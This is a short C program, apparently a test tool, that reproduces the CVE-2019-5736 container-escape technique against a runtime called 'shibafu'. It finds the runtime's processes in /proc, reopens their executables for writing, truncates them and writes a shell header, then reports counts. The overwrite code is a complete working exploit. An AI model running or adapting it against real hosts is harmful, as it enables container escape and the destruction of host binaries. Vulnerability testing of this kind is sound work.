/* overwrite SECONDS: looks in /proc for processes that run the runtime, and tries to write to their program
 * (CVE-2019-5736). Says how many it saw, opened for writing, and wrote to. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { TRIES = 50 };

static unsigned long seen, opened, written;

static void attack (const char *pid)
{
	char path[PATH_MAX], program[PATH_MAX];

	snprintf (path, sizeof path, "/proc/%s/exe", pid);
	int fd = open (path, O_PATH | O_CLOEXEC);
	ssize_t length = fd < 0 ? -1 : readlink (path, program, sizeof program - 1);
	if (length > 0)
		program[length] = 0;
	if (length <= 0 || !strstr (program, "shibafu")) {
		if (fd >= 0)
			close (fd);
		return;
	}
	seen++;
	snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
	for (int i = 0; i < TRIES; i++) {
		int target = open (path, O_WRONLY | (i % 2 ? O_TRUNC : 0));
		if (target < 0)
			continue; /* ETXTBSY until the process ends */
		opened++;
		written += write (target, "#!/bin/sh\n", 10) > 0;
		close (target);
	}
	close (fd);
}

int main (int argc, char **argv)
{
	time_t end = time (NULL) + (argc > 1 ? atoi (argv[1]) : 1);

	while (time (NULL) < end) {
		struct dirent *entry;
		DIR *proc = opendir ("/proc");
		while (proc && (entry = readdir (proc)))
			if (isdigit ((unsigned char) entry->d_name[0]) && atoi (entry->d_name) != getpid ())
				attack (entry->d_name);
		if (proc)
			closedir (proc);
	}
	printf ("seen=%d opened=%lu written=%lu\n", seen > 0, opened, written);
	return 0;
}
